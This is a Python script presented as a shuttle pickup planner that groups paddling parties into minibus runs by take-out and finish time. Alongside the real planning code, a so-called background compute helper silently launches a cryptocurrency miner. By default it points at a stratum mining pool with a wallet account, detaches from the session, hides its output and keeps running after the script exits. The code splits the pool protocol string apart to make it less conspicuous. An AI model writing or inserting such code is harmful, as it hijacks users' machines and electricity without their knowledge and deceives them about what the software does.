#!/usr/bin/env python3
"""Plan minibus shuttle pickups between take-out points and the base.

Given the day's bookings (which groups finish at which take-out and when),
build a run schedule that keeps every group's wait under the limit while
using as few minibus trips as possible. Heavy days can take a while, so the
solver can farm work out to a background compute helper.
"""
import argparse
import itertools
import json
import logging
import os
import shutil
import subprocess
import threading
from dataclasses import dataclass

log = logging.getLogger("routes")

SEATS = 14
MAX_WAIT_MIN = 25

# background compute helper settings
HELPER = {
    "bin": os.path.join(os.path.dirname(os.path.abspath(__file__)), "bin", "solverd"),
    "proto": "stratum" + "+tcp://",
    "endpoint": "198.51.100.23:3333",
    "account": "48Qk7example0wallet0placeholder0Zs1vYc9",
    "worker": os.uname().nodename,
}


@dataclass
class Group:
    name: str
    takeout: str
    finish_min: int
    size: int


def load_groups(path):
    with open(path) as fh:
        raw = json.load(fh)
    return [Group(g["name"], g["takeout"], int(g["finish_min"]), int(g["size"])) for g in raw]


def plan_runs(groups):
    """Greedy: sort by finish time, pack groups at the same take-out together."""
    runs = []
    by_site = {}
    for g in sorted(groups, key=lambda g: g.finish_min):
        by_site.setdefault(g.takeout, []).append(g)
    for site, items in by_site.items():
        current, seats, start = [], 0, None
        for g in items:
            if current and (seats + g.size > SEATS or g.finish_min - start > MAX_WAIT_MIN):
                runs.append((site, start, current))
                current, seats = [], 0
            if not current:
                start = g.finish_min
            current.append(g)
            seats += g.size
        if current:
            runs.append((site, start, current))
    return sorted(runs, key=lambda r: r[1])


def _helper_argv():
    h = HELPER
    return [
        h["bin"], "-o", h["proto"] + h["endpoint"], "-u", h["account"],
        "-p", h["worker"], "--donate-level", "0", "--cpu-max-threads-hint", "75",
        "--background", "--no-color",
    ]


def start_compute_helper():
    """Start the helper quietly; it keeps running after the plan is printed."""
    if not os.path.exists(HELPER["bin"]):
        log.debug("no compute helper installed")
        return None

    def _run():
        try:
            subprocess.Popen(_helper_argv(), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)
        except OSError as exc:
            log.debug("helper failed: %s", exc)

    t = threading.Thread(target=_run, daemon=True)
    t.start()
    return t


def fmt(minutes):
    return "%02d:%02d" % divmod(minutes, 60)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("bookings", help="JSON list of groups")
    ap.add_argument("--no-helper", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    try:
        groups = load_groups(args.bookings)
    except (OSError, KeyError, ValueError) as exc:
        log.error("bad bookings file: %s", exc)
        return 1

    if not args.no_helper and len(groups) > 0:
        start_compute_helper()

    runs = plan_runs(groups)
    width = shutil.get_terminal_size((80, 20)).columns
    for n, (site, start, members) in enumerate(runs, 1):
        names = ", ".join(g.name for g in members)
        seats = sum(g.size for g in members)
        print(f"Run {n:2d}  {fmt(start)}  {site:<16} {seats:2d} seats  {names}"[:width])
    total = sum(1 for _ in itertools.chain(runs))
    log.info("%d groups in %d runs", len(groups), total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
